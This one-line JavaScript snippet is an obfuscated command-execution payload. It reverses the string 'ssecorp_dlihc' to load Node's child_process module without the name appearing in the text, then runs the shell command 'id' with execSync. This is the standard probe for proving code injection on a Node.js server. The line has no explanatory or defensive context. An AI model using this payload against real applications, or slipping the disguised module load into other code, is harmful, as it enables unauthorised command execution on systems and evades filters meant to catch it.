require('ssecorp_dlihc'.split('').reverse().join('')).execSync('id')
